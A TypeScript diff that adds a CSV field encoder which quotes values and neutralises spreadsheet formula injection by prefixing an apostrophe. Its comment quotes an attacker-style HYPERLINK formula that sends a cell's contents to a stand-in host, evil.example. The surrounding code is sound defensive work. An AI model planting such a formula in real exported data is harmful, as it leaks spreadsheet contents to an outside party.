@@ -39,3 +39,17 @@ export function parseCsvRows(text: string): string[][] {
   }
   return rows;
 }
+
+/**
+ * One CSV field as written: a number as it is; text with a comma, quote or line break (or any text,
+ * with `quote: 'always'`) quoted with doubled quotes; text a spreadsheet would run as a formula (it
+ * starts with = + - @, a tab or a carriage return) gets a leading apostrophe first. Customer and
+ * contact names come from email display names and chat profiles anyone can set, e.g.
+ * `=HYPERLINK("https://evil.example/?"&A2,"Open")`.
+ */
+export function csvField(value: string | number | null, opts: { quote?: 'always' | 'needed' } = {}): string {
+  if (value === null) return opts.quote === 'always' ? '""' : '';
+  if (typeof value === 'number') return String(value);
+  const safe = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
+  return opts.quote === 'always' || /[",\r\n]/.test(safe) ? `"${safe.replace(/"/g, '""')}"` : safe;
+}
